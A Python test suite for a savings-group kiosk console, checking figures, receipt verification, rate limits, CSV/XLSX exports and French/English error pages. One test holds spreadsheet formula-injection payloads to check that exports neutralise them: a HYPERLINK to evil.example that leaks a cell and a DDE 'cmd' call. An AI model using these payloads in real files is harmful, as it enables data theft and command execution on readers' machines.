"""The console's pages and data against the kiosks' own books: figures, rollups, receipts, exports, sizes."""

from __future__ import annotations

import csv
import html
import io
import json
import random
import re
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from httpx import Response
from openpyxl import load_workbook
from sqlalchemy import create_engine, delete, func, select, update
from test_console_support import PASSWORD, SERVER, TODAY, World, csrf_of, login, served_world, token
from test_sync_support import BACKENDS, ServerDb, backend_fixture, running  # noqa: F401  (fixture)

from kiosk.domain.projections import TABLES
from kiosk.services import statements as ST
from sync_server import accounts, enrollment, rollup
from sync_server.db import (
    console_months,
    console_totals,
    enrollment_codes,
    incidents,
    kiosk_keys,
    kiosks,
    metadata,
    now_ms,
    projections,
)
from sync_server.errors import SyncServerError
from sync_server.web.loans import at_risk, days_late

NONCE = re.compile(r'name="nonce" value="([^"]+)"')


@pytest.fixture(scope="module", params=BACKENDS)
def w(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    yield from served_world(request.param, tmp_path_factory.mktemp("pages"))


@pytest.fixture(scope="module")
def admin(w: World) -> TestClient:
    c = TestClient(w.client.app, base_url="http://testserver")
    login(c, "admin")
    c.cookies.set("lang", "fr")
    return c


def _kiosk_books(w: World, kiosk_id: str) -> dict[str, int]:
    """The same figures computed on the kiosk, from its own SQLite projections."""
    q = w.kiosks[kiosk_id].store.conn.execute
    return {
        "members": q("SELECT COUNT(*) FROM p_members WHERE active = 1").fetchone()[0],
        "women": q("SELECT COUNT(*) FROM p_members WHERE active = 1 AND sex = 'F'").fetchone()[0],
        "savings": -q(
            "SELECT COALESCE(SUM(balance), 0) FROM p_accounts WHERE account LIKE 'verte:savings:%'"
        ).fetchone()[0],
        "loans": q(
            "SELECT COALESCE(SUM(principal - principal_paid), 0) FROM p_loans WHERE status = 'active' AND kind = 'loan'"
        ).fetchone()[0],
        "loans_active": q("SELECT COUNT(*) FROM p_loans WHERE status = 'active' AND kind = 'loan'").fetchone()[0],
        "aid": q("SELECT COALESCE(SUM(aid_received), 0) FROM p_members").fetchone()[0],
        "cash_verte": q("SELECT balance FROM p_accounts WHERE account = 'verte:cash'").fetchone()[0],
        "cash_rouge": q("SELECT balance FROM p_accounts WHERE account = 'rouge:cash'").fetchone()[0],
        "meetings": q("SELECT COUNT(*) FROM p_meetings").fetchone()[0],
    }


def test_the_overview_adds_up_the_kiosks_books(w: World, admin: TestClient) -> None:
    figures = admin.get("/v1/console/overview").json()["figures"]
    books = [_kiosk_books(w, k) for k in ("K01", "K02")]
    for key in books[0]:
        assert figures[key] == books[0][key] + books[1][key], key
    assert figures["groups"] == 2 and figures["kiosks"] == 2 and figures["silent"] == 0
    page = admin.get("/")
    assert page.status_code == 200
    savings = f"{figures['savings']:,}".replace(",", "\u00a0")
    assert savings in page.text and "<svg" in page.text


def test_portfolio_at_risk_in_sql_is_the_domain_s_schedule(w: World) -> None:
    """The SQL shortcut for 'oldest unpaid installment > 30 days' against kiosk.domain.loans.schedule."""
    rnd = random.Random(5)
    loans = projections["loans"]
    engine = create_engine("sqlite://")
    metadata.create_all(engine, tables=[loans])
    rows = []
    for i in range(600):
        principal = rnd.choice([500, 3000, 10_000, 25_005, 99_995, rnd.randrange(5, 200_000, 5)])
        term = rnd.randint(1, 12)
        # month ends matter: a loan of 31 January falls due on 28 February
        start = rnd.choice([date(2025, 1, 31), date(2025, 3, 31), date(2025, 8, 30)]) if rnd.random() < 0.3 else None
        start = start or date(2025, 1, 1) + timedelta(days=rnd.randint(0, 364))
        paid = min(principal, rnd.choice([0, principal // 2, principal, rnd.randrange(0, principal + 1, 5)]))
        row = {c: None for c, _ in TABLES["loans"].columns} | {
            "kiosk_id": "K",
            "loan_id": f"L{i}",
            "group_id": "G",
            "principal": principal,
            "term_months": term,
            "rounding_unit": rnd.choice([5, 25, 100]),
            "start": start.isoformat(),
            "principal_paid": paid,
            "method": "flat",
            "rate_bp": 200,
            "penalty_bp": 0,
            "status": "active",
            "kind": "loan",
        }
        rows.append(row)
    with engine.begin() as conn:
        conn.execute(loans.insert(), rows)
        for today in (date(2025, 3, 31), date(2025, 3, 30), date(2025, 8, 15), date(2026, 1, 1), date(2026, 3, 31)):
            sql = set(conn.execute(select(loans.c.loan_id).where(at_risk(today))).scalars())
            python = {r["loan_id"] for r in rows if days_late(r, today) > 30}
            assert sql == python, today
    # and on the real server, the overview's PAR is the group pages' (computed in Python)
    c = TestClient(w.client.app, base_url="http://testserver")
    login(c, "admin")
    total = c.get("/v1/console/overview").json()["figures"]["par30"]
    per_group = sum(c.get("/v1/console" + w.group_url(k)).json()["figures"]["par30"] for k in ("K01", "K02"))
    assert total == per_group > 0


def test_rollups_rebuilt_from_the_journal_equal_those_kept_by_ingest(w: World) -> None:
    engine = w.server.engine

    def snapshot() -> tuple[list, list]:
        with engine.connect() as conn:
            return (
                sorted(tuple(r) for r in conn.execute(select(console_totals))),
                sorted(tuple(r) for r in conn.execute(select(console_months))),
            )

    before = snapshot()
    assert len(before[1]) > 5
    with engine.begin() as conn:
        conn.execute(delete(console_totals))
        conn.execute(delete(console_months))
    assert rollup.needs_rebuild(engine)
    assert rollup.rebuild(engine) == 2
    assert snapshot() == before and not rollup.needs_rebuild(engine)


def test_the_group_page_shows_funds_members_loans_meetings_and_corrections(w: World, admin: TestClient) -> None:
    page = admin.get(w.group_url("K01"))
    assert page.status_code == 200
    html = page.text
    books = _kiosk_books(w, "K01")
    assert f"{books['cash_verte']:,}".replace(",", "\u00a0") in html
    assert "Ɖɔvi Ahouansou" in html  # Ewe/Fon letters as they are
    assert "cotisation saisie deux fois" in html  # the demo's correction, with its reason
    assert html.count('class="late"') >= 2  # the demo's two defaulters
    assert "Caisse verte +" in html or "Caisse verte -" in html  # week 8: 500 F missing at closing
    older = admin.get(w.group_url("K01") + "?mp=2")
    assert older.status_code == 200 and "04/05/2026" in older.text  # the first meeting, on the second page
    member_link = re.search(r'href="(/groups/K01/[^"]+/members/[^"]+)"', html)[1]
    statement = admin.get(member_link)
    assert statement.status_code == 200 and "Relevé" in statement.text


def test_receipts_verify_against_the_journal(w: World, admin: TestClient) -> None:
    real = next(r for r in w.receipts("K01") if r["movements"])
    number, code = real["number"], real["code"]
    page = admin.get(real["verify_url"].replace("http://testserver", ""))
    assert "Code authentique" in page.text and real["member"]["name"] in page.text
    amount = f"{real['movements'][0]['amount']:,}".replace(",", "\u00a0")
    assert amount in page.text
    typed = admin.get(f"/verify?number={number}&code={code.lower()}")  # typed by hand: dash, lower case
    assert "Code authentique" in typed.text
    forged = code[:-1] + ("A" if code[-1] != "A" else "B")
    assert "Ne correspond pas" in admin.get(f"/verify?number={number}&code={forged}").text
    # Beyond what K01 has sent: a receipt printed since its last sync reads as such, not as a forgery.
    assert "Pas encore reçu par le serveur" in admin.get(f"/verify?number=K01-999999&code={code}").text
    assert "Inconnu" in admin.get(f"/verify?number=K99-000001&code={code}").text
    assert "Inconnu" in admin.get(f"/verify?number=nonsense&code={code}").text
    api = admin.get(f"/v1/console/verify/{number}/{code}").json()
    assert api["verdict"] == "genuine" and api["content"]["member"]["name"] == real["member"]["name"]
    anonymous = TestClient(w.client.app, base_url="http://testserver")
    anonymous.cookies.set("lang", "fr")
    seen = anonymous.get(real["verify_url"].replace("http://testserver", ""))
    assert "Code authentique" in seen.text and real["member"]["name"] not in seen.text  # not whose it is…
    savings = f"{real['balances']['savings']:,}".replace(",", "\u00a0")
    assert amount in seen.text and "Épargne (verte)" in seen.text and savings in seen.text  # …but what it says
    assert "Non vérifié" in anonymous.get(f"/verify?number={number}&code={forged}").text
    assert "Pas encore reçu par le serveur" in anonymous.get(f"/verify?number=K01-999999&code={code}").text
    # A coordinator of another country reads what the paper prints, nothing of who recorded it or why.
    bj = TestClient(w.client.app, base_url="http://testserver")
    corrected = next(r for r in w.receipts("K01") if any(m["kind"] == "reversal" for m in r["movements"]))
    seen_bj = bj.get(f"/v1/console/verify/{corrected['number']}/{corrected['code']}", headers=token(bj, "coord_bj"))
    content = seen_bj.json()["content"]
    printed = {"kind", "what", "of", "fund", "amount", "split", "corrected", "repayable"}
    assert seen_bj.json()["outside_scope"] and all(set(m) == printed for m in content["movements"])
    # A movement corrected since is said to whoever holds the paper (it is their money), without the reason.
    reversed_txns = [m for m in content["movements"] if m["corrected"]]
    later = anonymous.get(corrected["verify_url"].replace("http://testserver", "")).text
    assert ("corrigé ensuite" in later) == bool(reversed_txns)
    assert "saisie deux fois" not in seen_bj.text and "name" not in content["member"]
    # A repayment's split, as its paper prints it: a paper that moved a penalty into capital is caught.
    repaid = next(r for r in w.receipts("K01") if any(m["kind"] == "repayment" for m in r["movements"]))
    split = next(m for m in repaid["movements"] if m["kind"] == "repayment")["detail"]
    shown = anonymous.get(repaid["verify_url"].replace("http://testserver", "")).text
    principal = f"{split['principal']:,}".replace(",", "\u00a0")
    assert f"dont capital {principal}" in shown and (not split["paf"] or "PAF" in shown)
    # Typed from the paper: digits for the letters they look like, the kiosk's id in small letters.
    misread = code.replace("-", "").replace("O", "0").replace("I", "1").replace("B", "8")
    assert "Code authentique" in anonymous.get(f"/verify?number={number.lower()}&code={misread}").text
    # A correction reads as on its paper: minus, and what it cancels.
    corrected = next(r for r in w.receipts("K01") if any(m["kind"] == "reversal" for m in r["movements"]))
    page = admin.get(corrected["verify_url"].replace("http://testserver", ""))
    cancelled = next(m for m in corrected["movements"] if m["kind"] == "reversal")
    assert cancelled["of"] == "contribution" and "correction\u00a0: cotisation" in page.text
    assert f"-{-cancelled['amount']:,}".replace(",", "\u00a0") in page.text
    # A relevé prints the journal's head: its code proves that point of the journal.
    k = w.kiosks["K01"]
    member = k.store.query("SELECT member_id FROM p_members ORDER BY number LIMIT 1")[0]["member_id"]
    statement = ST.statement_doc(k, member)
    page = anonymous.get(f"/verify?number=K01-{statement['journal_seq']:06d}&code={statement['code']}")
    assert "échéancier : imprimé quand" in page.text and "Code authentique" not in page.text
    assert "pas les montants du papier" in page.text  # no figures below: it must not say to compare them
    scanned = anonymous.get(statement["verify_url"].replace("http://testserver", ""))  # what its QR code opens
    assert "échéancier : imprimé quand" in scanned.text and statement["verify_url"].startswith(
        "http://testserver/v/K01-"
    )
    other = anonymous.get(f"/verify?number=K01-{statement['journal_seq'] - 1:06d}&code={statement['code']}")
    assert "Non vérifié" in other.text


def test_a_group_checking_its_receipts_from_one_phone_is_not_slowed_only_wrong_codes_are(tmp_path: Path) -> None:
    from test_console_support import benin_scenario, make_kiosk, sync
    from test_sync_support import running, server_db

    with running(server_db("sqlite", tmp_path), anonymous_rate_per_minute=1, anonymous_burst=3) as server:
        k, _group = make_kiosk(tmp_path / "K01.db", "K01", benin_scenario(weeks=2))
        try:
            sync(server, k, "K01")
            rows = k.store.conn.execute("SELECT doc FROM print_jobs WHERE kind = 'member' ORDER BY id").fetchall()
            papers = [json.loads(r[0]) for r in rows]
        finally:
            k.close()
        phone = TestClient(server.client.app, base_url="http://testserver")
        phone.cookies.set("lang", "fr")
        assert len(papers) > 6
        for paper in papers[:6]:  # twice the burst, all genuine
            assert (
                "Code authentique"
                in phone.get("/verify", params={"number": paper["number"], "code": paper["code"]}).text
            )
        wrong = {"number": papers[0]["number"], "code": "AAAAA-AAAAA"}
        for _ in range(3):
            assert "Non vérifié" in phone.get("/verify", params=wrong).text
        assert phone.get("/verify", params=wrong).status_code == 429
        genuine = {"number": papers[1]["number"], "code": papers[1]["code"]}
        assert phone.get("/verify", params=genuine).status_code == 429  # the address waits, whatever it asks


def test_a_procès_verbal_verifies_with_the_cash_its_paper_prints(w: World, admin: TestClient) -> None:
    """The treasurer's paper: its check shows each box's counts, opening and closing, so an altered
    figure on the PV shows against the journal's."""
    from kiosk.domain.funds import count_total

    anonymous = TestClient(admin.app)
    for pv in w.receipts("K01", kind="report")[-3:]:
        page = anonymous.get(pv["verify_url"].replace("http://testserver", ""))
        assert "Code authentique" in page.text
        meeting = w.kiosks["K01"].store.query(
            "SELECT close_count, close_expected FROM p_meetings WHERE number = ? AND group_id = ?",
            (pv["meeting"]["number"], w.groups["K01"]),
        )[0]
        counted, expected = json.loads(meeting["close_count"]), json.loads(meeting["close_expected"])
        table = page.text[page.text.index('<table class="cash">') :]
        table = table[: table.index("</table>")]
        boxes = [html.unescape(h) for h in re.findall(r'<th class="num">([^<]*)</th>', table)]
        lines = [re.findall(r"<td[^>]*>([^<]*)</td>", row) for row in re.findall(r"<tr><td>.*?</tr>", table)]
        cells = {line[0]: dict(zip(boxes, line[1:], strict=True)) for line in lines}
        labels = {"opening_counted": "Ouverture, compté", "opening_expected": "Ouverture, attendu"}
        labels |= {"closing_expected": "Clôture, attendu", "closing_counted": "Clôture, compté"}
        for fund, paper in pv["funds"].items():
            assert paper["closing_counted"] == count_total(counted[fund])  # the paper's figure is the journal's
            assert paper["closing_expected"] == expected[fund]
            shown = [html.unescape(cells[labels[n]][f"Caisse {fund}"]).replace("\u00a0", " ") for n in labels]
            assert shown == [f"{paper[name]:,} F".replace(",", " ") for name in labels], (shown, paper)


def test_exports_read_back(w: World, admin: TestClient) -> None:
    key = f"K01/{w.groups['K01']}"
    xlsx = admin.get(f"/exports/movements.xlsx?group={key}")
    assert xlsx.status_code == 200 and "attachment" in xlsx.headers["content-disposition"]
    # Named after its group, as a person looks for it among their downloads.
    assert f"muso-movements-K01-muso-elikem-de-bolou-{w.groups['K01'][:8]}.xlsx" in xlsx.headers["content-disposition"]
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    count = w.kiosks["K01"].store.conn.execute("SELECT COUNT(*) FROM p_transactions").fetchone()[0]
    assert sheet.title == "Mouvements" and len(rows) == count + 1
    # Headings in bold that stay in view and filter; columns as wide as their headings.
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == f"A1:P{count + 1}" and sheet["A1"].font.b
    assert sheet.column_dimensions["C"].width >= len("N° d'événement")
    words = ("Kiosque", "Groupe", "N° d'événement", "Date", "Séance n°", "Nature", "Caisse", "Montant (F)")
    assert rows[0][:8] == words
    assert {r[5] for r in rows[1:]} >= {"cotisation", "prêt", "remboursement"}
    assert {r[6] for r in rows[1:]} <= {"Caisse verte", "Caisse rouge", "Caisse bleue"}
    assert {r[14] for r in rows[1:]} == {"oui", "non"} and all(isinstance(r[7], int) for r in rows[1:])
    # Dates are dates (sorted, filtered, subtracted), shown as French readers write them.
    assert all(isinstance(r[3], datetime) for r in rows[1:])
    assert next(sheet.iter_rows(min_row=2, max_row=2))[3].number_format == "DD/MM/YYYY"
    members = admin.get("/exports/members.csv").text.lstrip("\ufeff").splitlines()
    assert len(members) == 1 + sum(
        w.kiosks[k].store.conn.execute("SELECT COUNT(*) FROM p_members").fetchone()[0] for k in ("K01", "K02")
    )
    ranged = admin.get("/exports/meetings.csv?from=2026-06-01&to=2026-06-30").text.splitlines()
    assert all("2026-06-" in line for line in ranged[1:]) and len(ranged) > 4
    assert all(line.split(";")[4] == "clôturée" for line in ranged[1:])
    bad = admin.get("/exports/meetings.csv?from=June")
    assert bad.status_code == 400 and "AAAA-MM-JJ" in bad.text


def test_files_are_in_the_reader_s_words_and_the_api_s_in_codes(w: World, admin: TestClient) -> None:
    # A French spreadsheet opens a comma-separated file in one column, and reads 66.7 as text.
    fr = list(csv.reader(io.StringIO(admin.get("/exports/members.csv").text.lstrip("\ufeff")), delimiter=";"))
    assert fr[0][:6] == ["Kiosque", "Groupe", "N°", "Nom", "Sexe", "Rôle"]
    assert {r[5] for r in fr[1:]} >= {"président·e", "trésorier·e", "membre"} and {r[4] for r in fr[1:]} <= {"F", "H"}
    assert {r[9] for r in fr[1:]} <= {"oui", "non"} and "oui" in {r[9] for r in fr[1:]}
    en = _as(w, "admin", "en").get("/exports/loans.csv").text.lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(en)))
    assert rows[0][:8] == ["Kiosk", "Group", "Member no.", "Member", "Kind", "Fund", "Principal (F)", "PAF method"]
    assert {r[4] for r in rows[1:]} <= {"loan", "aid loan"} and {r[rows[0].index("Status")] for r in rows[1:]} >= {
        "active",
        "repaid",
    }
    # The API's files are for programs: identifiers and raw codes, whatever the language.
    api = admin.get("/v1/console/exports/members?format=csv", headers=token(admin, "admin"))
    raw = list(csv.reader(io.StringIO(api.text.lstrip("\ufeff"))))
    assert raw[0][:6] == ["kiosk_id", "group", "number", "name", "sex", "role"]
    assert {r[5] for r in raw[1:]} >= {"president", "tresorier", "membre"} and {r[9] for r in raw[1:]} == {"True"}


def test_exported_text_never_runs_as_a_spreadsheet_formula() -> None:
    from sync_server.web.exports import csv_chunks, xlsx_bytes

    names = ['=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "Afi"]
    rows = [(name, 1000) for name in names]
    text = "".join(csv_chunks(("name", "savings"), iter(rows))).lstrip("\ufeff")
    read = list(csv.reader(io.StringIO(text)))[1:]
    assert [r[0] for r in read] == ["'" + n for n in names[:4]] + ["Afi"]  # shown as text, with a quote
    assert [r[1] for r in read] == ["1000"] * 5
    sheet = load_workbook(io.BytesIO(xlsx_bytes("t", ("name", "savings"), iter(rows)))).active
    cells = list(sheet.iter_rows(min_row=2))
    assert [c[0].value for c in cells] == names  # exactly as typed…
    # A name typed as a date stays a name: days are read by column, not by look.
    odd = [("2026-05-04", "2026-05-04"), ("0001-01-01", "0001-01-01")]
    sheet = load_workbook(io.BytesIO(xlsx_bytes("t", ("name", "date"), iter(odd), frozenset({1})))).active
    read_back = [tuple(c.value for c in r) for r in sheet.iter_rows(min_row=2)]
    assert read_back == [("2026-05-04", datetime(2026, 5, 4)), ("0001-01-01", "0001-01-01")]
    assert {c[0].data_type for c in cells} == {"s"} and {c[1].value for c in cells} == {1000}  # …and never a formula


def test_pages_are_small_scriptless_and_translated(w: World, admin: TestClient) -> None:
    urls = ["/", "/groups", w.group_url("K01"), "/kiosks", "/exports", "/enrollments", "/users", "/verify", "/login"]
    for url in urls:
        page = admin.get(url)
        assert page.status_code == 200, url
        assert len(page.content) < 100_000, (url, len(page.content))
        assert "<script" not in page.text and not re.search(r'(src|href)="(https?:)?//', page.text), url
    css = admin.get("/static/console.css")
    assert css.status_code == 200 and len(css.content) < 10_000
    en = TestClient(w.client.app, base_url="http://testserver")
    login(en, "admin")
    switched = en.get("/lang/en?next=/groups")
    assert switched.status_code == 200 and "Groups" in switched.text and "Log out" in switched.text
    assert "Savings" in en.get(w.group_url("K01")).text


def test_the_fleet_page_shows_what_kiosks_report(w: World, admin: TestClient) -> None:
    page = admin.get("/kiosks")
    assert "Imprimante" in page.text and "À envoyer" in page.text
    kiosks = admin.get("/v1/console/kiosks").json()
    assert [k["kiosk_id"] for k in kiosks] == ["K01", "K02"]
    assert all(k["acked_seq"] > 100 and k["skew_ms"] is not None for k in kiosks)
    # Each push carried the kiosk's own report (inside the signed body).
    assert all(k["app_version"] and k["reported_at"] and k["print_pending"] is not None for k in kiosks)
    assert all(k["events_pending"] == 0 for k in kiosks)  # everything was sent
    assert f"v{kiosks[0]['app_version']}" in page.text
    assert "en état" in page.text  # each printer reported working


def test_a_phone_sees_quarantined_events_beside_the_kiosk_s_name(w: World, admin: TestClient) -> None:
    """On a phone the quarantine column gives way to the printer's (it ran off the side): a kiosk with
    quarantined events says so under its name instead, and only then."""
    engine = w.server.engine
    page = admin.get("/kiosks").text
    assert '<th class="num ph">Quarantaine</th>' in page and "en quarantaine" not in page
    with engine.begin() as conn:
        conn.execute(update(kiosks).where(kiosks.c.kiosk_id == "K01").values(quarantined=3))
    try:
        page = admin.get("/kiosks").text
        assert '<span class="tag bad only-phone">3 en quarantaine</span>' in page
    finally:
        with engine.begin() as conn:
            conn.execute(update(kiosks).where(kiosks.c.kiosk_id == "K01").values(quarantined=0))


def test_enrollment_codes_are_created_listed_and_revoked(w: World) -> None:
    c = TestClient(w.client.app, base_url="http://testserver")
    login(c, "coord_tg")
    c.cookies.set("lang", "fr")
    csrf = csrf_of(c.get("/enrollments").text)
    form = {"csrf": csrf, "nonce": "n" * 24, "country": "TG"}
    made = c.post("/enrollments", data={**form, "kiosk_id": "K55", "name": "Kpalimé"})
    code = re.search(r"Code pour K55 : ([A-Z0-9-]{14})", made.text)[1]
    handle = re.search(r'action="/enrollments/([0-9a-f]+)/revoke"', made.text)[1]
    assert c.post(f"/enrollments/{handle}/revoke", data={"csrf": csrf}).status_code == 200

    with pytest.raises(SyncServerError) as err:
        enrollment.enroll(w.server.engine, code, "A" * 43, "B" * 86, None)
    assert err.value.code in ("proof_invalid", "enrollment_code_expired")
    bad = c.post("/enrollments", data={**form, "nonce": "m" * 24, "kiosk_id": "bad id!"})
    assert bad.status_code == 400 and "identifiant de kiosque" in bad.text
    assert "bad id" not in c.get("/enrollments").text
    assert TODAY.year == 2026


def test_odd_input_gets_an_answer_never_a_500(w: World, admin: TestClient) -> None:
    anon = TestClient(w.client.app, base_url="http://testserver", raise_server_exceptions=False)
    real = w.receipts("K01")[-1]["number"]
    answers = {
        # non-ASCII where a constant-time comparison is made
        "code": anon.get("/verify", params={"number": real, "code": "ÉÉÉÉÉÉÉÉÉÉ"}).status_code,
        "api code": admin.get(f"/v1/console/verify/{real}/ÉÉÉÉÉÉÉÉÉÉ").status_code,
        "cookie": anon.get("/", headers={"Cookie": "muso_session=abc.\xe9".encode("latin-1")}).status_code,
        "login csrf": anon.post("/login", data={"username": "x", "password": "y", "csrf": "é"}).status_code,
        # a digit that is not 0-9
        "number": anon.get("/verify", params={"number": "K01-²", "code": "ABCDEFGHIJ"}).status_code,
        "short link": anon.get("/v/K01-%C2%B2/ABCDEFGHIJ").status_code,
        # quarters no calendar holds
        "quarter 0000": admin.get("/v1/console/indicators?quarter=0000-Q1").status_code,
        "quarter 9999": admin.get("/exports/indicators.csv?quarter=9999-Q4").status_code,
    }
    assert all(code < 500 for code in answers.values()), answers
    assert answers["quarter 0000"] == answers["quarter 9999"] == 400


def test_export_dates_are_written_one_way_only(w: World, admin: TestClient) -> None:
    # 20260504 or 2026-W19-1 would pass a date parser and then match nothing: refused, not an empty file.
    for odd in ("20260504", "2026-W19-1"):
        resp = admin.get(f"/exports/meetings.csv?from={odd}")
        assert resp.status_code == 400 and "AAAA-MM-JJ" in resp.text


def test_group_search_finds_accented_names_whatever_the_case(w: World, admin: TestClient) -> None:
    # SQLite's own lower() folds ASCII only: the stored "Élikem" never matched.
    queries = ("élikem", "ÉLIKEM", "Élikem", "sèmè", "SÈMÈ")
    assert [admin.get("/v1/console/groups", params={"q": q}).json()["total"] for q in queries] == [1] * 5


def test_a_member_owes_aid_loans_too_and_a_loan_no_longer_running_owes_nothing(w: World, admin: TestClient) -> None:
    from sync_server.web.loans import standing

    kiosk = w.kiosks["K01"]
    aid = kiosk.store.query("SELECT * FROM p_loans WHERE kind = 'aid' AND status = 'active' LIMIT 1")
    if aid:  # the group page's and the export's figure match the kiosk's books
        member = aid[0]["member_id"]
        active = "SELECT principal, principal_paid FROM p_loans WHERE member_id = ? AND status = 'active'"
        owed = sum(r["principal"] - r["principal_paid"] for r in kiosk.store.query(active, (member,)))
        number = kiosk.member(member)["number"]
        rows = admin.get("/exports/members.csv").text.removeprefix("\ufeff").splitlines()
        header = rows[0].split(";")
        mine = next(r.split(";") for r in rows[1:] if r.split(";")[0] == "K01" and r.split(";")[2] == str(number))
        assert int(mine[header.index("Capital restant dû, prêts d'aide compris (F)")]) == owed
    loan = dict(kiosk.store.query("SELECT * FROM p_loans LIMIT 1")[0])
    for status in ("cancelled", "repaid"):
        figures = standing(loan | {"status": status}, TODAY)
        assert (figures["outstanding"], figures["arrears"], figures["days_late"]) == (0, 0, 0)


# -- the reviewer's findings ------------------------------------------------------------------------


def _alert(resp: Response) -> str:
    """The sentence of an error page, as a person reads it."""
    found = re.search(r'role="(?:alert|status)">(.*?)</p>', resp.text, re.S)
    assert found, resp.text[:300]
    return html.unescape(found[1]).strip()


def _as(w: World, username: str, lang: str = "fr") -> TestClient:
    c = TestClient(w.client.app, base_url="http://testserver")
    login(c, username)
    c.cookies.set("lang", lang)
    return c


DATE_WRITTEN = "Une date s'écrit JJ/MM/AAAA ou AAAA-MM-JJ, par exemple 01/10/2026 ou 2026-10-01."


def test_refusals_on_the_pages_read_in_french_and_the_api_keeps_its_codes(w: World, admin: TestClient) -> None:
    group = w.group_url("K01")
    expected = {
        "/groups?page=abc": (400, "Numéro de page invalide : un nombre entier à partir de 1."),
        group + "?mp=0": (400, "Numéro de page invalide : un nombre entier à partir de 1."),
        "/exports/movements.csv?from=2026/05/01": (400, DATE_WRITTEN),
        "/exports/meetings.xlsx?to=2026-13-01": (400, DATE_WRITTEN),
        "/exports/indicators.csv?quarter=2026-Q5": (
            400,
            "Un trimestre s'écrit comme 2026-Q3 (Q1 à Q4, années 2000 à 2200).",
        ),
        "/exports/members.csv?group=K01": (
            400,
            "Un groupe s'écrit KIOSQUE/IDENTIFIANT_DU_GROUPE, comme dans les liens",
        ),
        "/exports/members.csv?group=K01/nope": (404, "Introuvable."),
        "/lang/de": (400, "Valeur refusée : langue."),
    }
    for url, (status, sentence) in expected.items():
        resp = admin.get(url)
        assert resp.status_code == status and _alert(resp).startswith(sentence), (url, resp.status_code, _alert(resp))
    coordinator = _as(w, "coord_tg")
    form = {"csrf": csrf_of(coordinator.get("/enrollments").text), "nonce": "refusals-0123456789", "country": "TG"}
    refusals = {
        "K02": (403, {}, "Cet identifiant de kiosque est déjà pris hors de votre périmètre"),
        "K77": (403, {"country": "BJ"}, "Choisissez un pays et une coopérative de votre périmètre."),
        "K01": (409, {}, "Ce kiosque est déjà inscrit : cochez « Remplacement d'un appareil »"),
        "K 07": (400, {}, "Un identifiant de kiosque compte 1 à 64 lettres sans accent"),
        "K78": (400, {"hours": "0"}, "Un code d'inscription est valable de 1 à 720 heures."),
        "K79": (404, {"replace": "true"}, "Ce kiosque est inconnu : aucun kiosque ne s'est inscrit sous cet"),
        "K81": (400, {"country": "Togo"}, "Un pays s'écrit en code de deux lettres (TG, BJ)"),
        "K80": (400, {"nonce": "short"}, "Valeur refusée : formulaire (rechargez la page)."),
    }
    for kiosk_id, (status, extra, sentence) in refusals.items():
        resp = coordinator.post("/enrollments", data={**form, "kiosk_id": kiosk_id, **extra})
        assert resp.status_code == status and _alert(resp).startswith(sentence), (kiosk_id, _alert(resp))
    # the English side reads English; the API keeps its machine codes
    english = _as(w, "coord_tg", "en")
    assert _alert(english.get("/groups?page=abc")) == "Invalid page number: a whole number from 1."
    resp = english.post("/enrollments", data={**form, "csrf": csrf_of(english.get("/").text), "kiosk_id": "K02"})
    assert _alert(resp) == "This kiosk id is taken outside your scope: choose another."
    assert admin.get("/v1/console/groups?page=abc").json()["detail"][0]["loc"] == ["query", "page"]
    assert admin.get("/v1/console/indicators?quarter=2026-Q5").json()["detail"]["code"] == "quarter_invalid"


def test_a_refusal_without_a_sentence_of_its_own_is_still_french() -> None:
    from sync_server.errors import Conflict, TooLarge
    from sync_server.web.common import error_text

    odd = Conflict("public_key_in_use", "this public key is already enrolled")
    assert error_text("fr", odd) == "Conflit avec ce qui est déjà enregistré."
    assert error_text("en", odd) == "this public key is already enrolled"  # English says more than the general line
    assert error_text("fr", TooLarge("body_too_large", "too large")) == "Demande trop volumineuse."


def test_unknown_addresses_and_wrong_methods_get_the_console_s_page(w: World, admin: TestClient) -> None:
    missing = admin.get("/groups/K01/nope/and/more")
    assert missing.status_code == 404 and _alert(missing) == "Introuvable."
    assert "Se déconnecter" in missing.text  # signed in: the menu is there to go on
    wrong = admin.post("/groups", data={"q": "x"})
    assert wrong.status_code == 405 and wrong.headers["allow"] == "GET"
    assert _alert(wrong).startswith("Cette adresse ne s'ouvre pas ainsi")
    anonymous = TestClient(w.client.app, base_url="http://testserver")
    anonymous.cookies.set("lang", "en")
    assert _alert(anonymous.get("/nope")) == "Not found." and anonymous.get("/static/nope.css").status_code == 404
    api = admin.get("/v1/console/nope")
    assert api.status_code == 404 and api.json() == {"detail": "Not Found"}
    assert admin.post("/v1/console/groups").json() == {"detail": "Method Not Allowed"}


def test_switching_language_keeps_the_page_s_filters(w: World) -> None:
    c = _as(w, "admin")
    page = c.get("/groups", params={"q": "MUSO é", "country": "TG", "page": "1"})
    link = html.unescape(re.search(r'href="(/lang/en\?next=[^"]+)"', page.text)[1])
    switched = c.get(link, follow_redirects=False)
    assert switched.status_code == 303
    assert switched.headers["location"] == "/groups?q=MUSO+%C3%A9&country=TG&page=1"
    assert "MUSO Élikem de Bolou" in c.get(switched.headers["location"]).text


def test_groups_sort_without_regard_to_accents_or_case_and_kiosk_ids_match_any_case(
    w: World, admin: TestClient
) -> None:
    names = [g["name"] for g in admin.get("/v1/console/groups").json()["groups"]]
    assert names == ["MUSO Élikem de Bolou", "MUSO Sèmè de Bohicon"]  # É is an E, not a letter after Z
    page = admin.get("/groups").text
    assert page.index("MUSO Élikem de Bolou") < page.index("MUSO Sèmè de Bohicon")
    for typed in ("k01", "K01", " k01 "):
        assert admin.get("/v1/console/groups", params={"q": typed}).json()["total"] == 1, typed


def test_french_pages_write_dates_day_first_and_english_ones_iso(w: World, admin: TestClient) -> None:
    from sync_server.web.i18n import day, when, zone_for

    ms = int(datetime(2026, 12, 2, 10, 5, tzinfo=UTC).timestamp() * 1000)
    assert (when(ms, "fr"), when(ms, "en")) == ("02/12/2026 10:05 UTC", "2026-12-02 10:05 UTC")
    # In the reader's own time, named: Benin is an hour ahead of Togo, which keeps UTC.
    assert when(ms, "fr", zone_for(["BJ"])) == "02/12/2026 11:05 WAT"
    assert when(ms, "en", zone_for(["TG"])) == "2026-12-02 10:05 GMT"
